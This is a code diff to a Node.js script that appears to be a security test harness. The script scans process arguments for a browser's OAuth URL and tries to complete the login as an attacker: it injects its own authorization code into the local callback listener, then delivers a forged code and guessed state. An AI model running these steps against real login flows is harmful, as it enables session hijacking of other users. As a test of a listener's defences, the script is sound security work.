@@ -3,6 +3,7 @@
 // process's argv for a URL the browser was given, and tries to complete the login with it as itself. Prints one JSON
 // object per attempt: { step, status } when the listener answered, { step, error } when it did not.
 import { readdirSync, readFileSync } from 'node:fs';
+import { get } from 'node:http';
 
 const marker = process.argv[2]; // the browser's script name
 function openedUrl() {
@@ -15,15 +16,28 @@ function openedUrl() {
   return undefined;
 }
 
-async function attempt(step, url, headers = {}) {
-  try {
-    const res = await fetch(url, { redirect: 'manual', headers });
-    console.log(JSON.stringify({ step, status: res.status }));
-    return res;
-  } catch (err) {
-    console.log(JSON.stringify({ step, error: err.cause?.code ?? String(err) }));
-    return undefined;
-  }
+// node:http, not fetch: Node 20's fetch can leave its promise unsettled when the peer resets the connection at once,
+// and the process then ends silently with exit code 13 (an unsettled top-level await) instead of reporting it.
+function attempt(step, url, headers = {}) {
+  return new Promise((resolve) => {
+    let settled = false;
+    const done = (line, res) => {
+      if (settled) return;
+      settled = true;
+      clearTimeout(timer);
+      console.log(JSON.stringify({ step, ...line }));
+      resolve(res);
+    };
+    const timer = setTimeout(() => {
+      req.destroy();
+      done({ error: 'no answer in 10 s' });
+    }, 10_000);
+    const req = get(url, { headers }, (res) => {
+      res.resume();
+      done({ status: res.statusCode }, res);
+    });
+    req.on('error', (err) => done({ error: err.code ?? String(err) }));
+  });
 }
 
 const url = openedUrl();
@@ -36,16 +50,16 @@ const parsed = new URL(url);
 if (parsed.searchParams.has('state')) {
   // The authorization URL itself: sign in at the provider as ourselves and hand our code to their listener.
   const atProvider = await attempt('authorize as the attacker', url);
-  const callback = atProvider?.headers.get('location');
+  const callback = atProvider?.headers.location;
   if (callback) await attempt('deliver the code', callback);
 } else {
   // The start page: take it first, then deliver a code with its cookie.
   const start = await attempt('open the start page', url);
-  const cookie = start?.headers.get('set-cookie')?.split(';')[0];
-  const location = start?.headers.get('location');
+  const cookie = start?.headers['set-cookie']?.[0]?.split(';')[0];
+  const location = start?.headers.location;
   if (location) {
     const atProvider = await attempt('authorize as the attacker', location);
-    const callback = atProvider?.headers.get('location');
+    const callback = atProvider?.headers.location;
     if (callback) await attempt('deliver the code', callback, cookie ? { cookie } : {});
   }
   await attempt('deliver a forged code', new URL('/callback?code=forged&state=guess', parsed).href);
